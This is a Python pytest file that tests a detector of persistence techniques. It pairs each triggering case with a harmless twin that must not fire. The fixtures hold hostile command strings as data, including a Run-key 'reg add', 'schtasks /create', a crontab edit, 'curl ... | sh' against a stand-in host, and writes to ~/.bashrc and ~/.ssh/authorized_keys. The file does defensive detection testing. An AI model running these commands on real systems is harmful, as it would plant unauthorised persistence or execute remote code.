"""Persistence: each template is told by its facts, and not by a twin that lacks what makes it one."""

import pytest

from pratique.analysis.chains.persistence import PERSISTENCE
from pratique.analysis.facts import Capability
from tests.analysis.chains.making import (
    Case,
    elsewhere,
    fetch,
    read,
    start,
    start_place,
    told,
    use,
    write,
)

CASES = (
    Case("startup-place-written", [start_place("cron"), write()], [start_place("cron"), read()]),
    Case(
        "run-key-set",
        [start_place("Run key"), elsewhere(use(Capability.PERSISTENCE, "winreg.SetValueEx"))],
        [use(Capability.PERSISTENCE, "winreg.SetValueEx")],
    ),
    Case(
        "run-key-set-by-command",
        [start("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x")],
        [start("reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run")],
    ),
    Case("program-scheduled", [start("schtasks /create /tn x")], [start("schtasks /query")]),
    Case(
        "download-scheduled",
        [start("(crontab -l; echo x) | crontab -"), start("curl -s https://far.invalid/x | sh")],
        [start("(crontab -l; echo x) | crontab -"), start("curl -s https://far.invalid/x -o y")],
    ),
    Case(
        "service-installed",
        [start("systemctl --user enable x.service")],
        [start("systemctl status x.service")],
    ),
    Case("shell-profile-changed", [write("~/.bashrc")], [read("~/.bashrc")]),
    Case("authorized-key-added", [write("~/.ssh/authorized_keys")], [read("~/.ssh/authorized_keys")]),
    Case("interpreter-start-changed", [write("*/site-packages/x.pth")], [read("*/site-packages/x.pth")]),
    Case(
        "runner-registered",
        [start_place("CI workflow"), fetch(), start()],
        [start_place("CI workflow"), start()],
    ),
)


@pytest.mark.parametrize("case", CASES, ids=str)
def test_the_facts_are_told(case: Case) -> None:
    assert 1 == len(told(case, case.facts))


@pytest.mark.parametrize("case", CASES, ids=str)
def test_the_twin_is_not(case: Case) -> None:
    assert [] == told(case, case.quiet)


def test_every_template_of_the_family_has_its_case() -> None:
    assert [template.id for template in PERSISTENCE] == [case.template for case in CASES]
